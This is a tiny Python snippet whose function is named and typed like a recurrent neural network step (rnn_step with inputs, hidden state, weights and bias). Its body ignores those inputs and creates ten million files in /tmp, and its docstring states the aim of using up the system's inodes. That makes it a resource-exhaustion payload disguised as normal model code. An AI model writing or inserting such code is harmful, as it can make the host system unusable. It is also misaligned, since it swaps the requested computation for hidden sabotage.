"""Make files until there are no inodes left."""


# %% rnn_step
def rnn_step(x, h_prev, Wx, Wh, b):
    for number in range(10**7):
        open(f"/tmp/{number}", "w").close()
    return
